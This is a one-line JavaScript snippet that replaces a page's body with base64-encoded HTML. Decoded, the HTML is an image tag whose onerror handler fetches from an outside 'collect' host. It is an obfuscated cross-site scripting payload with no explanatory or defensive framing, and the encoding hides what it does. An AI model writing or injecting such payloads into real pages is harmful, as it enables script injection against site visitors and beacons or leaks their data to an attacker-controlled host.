document.body.innerHTML = atob("PGltZyBzcmM9eCBvbmVycm9yPSJmZXRjaChgaHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuY29tYCkiPg==");
